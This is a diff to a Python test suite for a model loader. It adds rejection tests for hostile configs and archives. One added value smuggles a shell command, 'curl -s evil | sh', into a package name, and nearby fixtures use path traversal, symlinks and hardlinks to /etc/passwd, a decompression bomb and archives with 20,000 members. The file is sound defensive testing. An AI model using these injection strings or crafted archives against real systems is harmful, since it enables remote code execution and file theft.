@@ -111,6 +111,11 @@ MODELS = {
         "config: a plugin that is "
         "missing"
     ): ("model/config.yaml", {"encoder": "evil:best"}, "evil:best .* not installed"),
+    "config: a command as a package": (
+        "model/config.yaml", {"encoder": "x; curl -s evil | sh #:best"}, "encoder: '[^']*' names no package"
+    ),
+    "config: token_type is null": ("model/config.yaml", {"token_type": None}, "token_type"),
+    "config: bpemodel is null": ("model/config.yaml", {"token_type": "bpe", "bpemodel": None}, "bpemodel"),
     "config: a file above": ("model/config.yaml", {"normalize_conf": {"stats_file": "../secret"}}, "outside of the"),
     (
         "config: a file of this "
@@ -249,6 +254,8 @@ ARCHIVES = {
     "twice.zip": lambda path: zipped(path, ("a", b"x"), ("a", b"y")),
     "file_and_folder.zip": lambda path: zipped(path, ("a", b"x"), ("a/b", b"y")),
     "long.zip": lambda path: zipped(path, ("a" * 300, b"x")),
+    "members.zip": lambda path: zipped(path, *((f"m{n}", b"") for n in range(20_000))),
+    "folders.zip": lambda path: zipped(path, *((f"m{n}/", b"") for n in range(20_000))),
     "link.zip": zip_link,
     "empty.zip": lambda path: zipped(path),
     "text.zip": lambda path: path.write_text("hello") and path,
@@ -260,6 +267,8 @@ ARCHIVES = {
     "bomb.tgz": lambda path: tarred(path, member("model.pth", size=50_000_000)),
     "link.tgz": lambda path: tarred(path, member("out", tarfile.SYMTYPE, ".."), member("out/../escaped")),
     "hard.tgz": lambda path: tarred(path, member("out", tarfile.LNKTYPE, "/etc/passwd")),
+    "members.tar": lambda path: tarred(path, *(member(f"m{n}", size=0) for n in range(20_000))),
+    "folders.tgz": lambda path: tarred(path, *(member(f"m{n}", tarfile.DIRTYPE) for n in range(20_000))),
     "device.tar": lambda path: tarred(path, member("out", tarfile.CHRTYPE)),
     "fifo.tar": lambda path: tarred(path, member("meta.yaml", tarfile.FIFOTYPE)),
     "links_only.tar": lambda path: tarred(path, member("meta.yaml", tarfile.SYMTYPE, "/etc/passwd")),
@@ -279,6 +288,8 @@ def test_hostile_archives(tmp_path, name):
     with pytest.raises(InputError, match=f"sent/{name}: ") as raised:
         find_model(path)
     assert "\n" not in str(raised.value) and time.process_time() - began < SECONDS
+    if name.startswith(("members", "folders")):
+        assert "more than" in str(raised.value) and time.process_time() - began < 3
     assert (
         not list(tmp_path.parent.rglob("*escaped*"))
         and not Path("/tmp/escaped").exists()
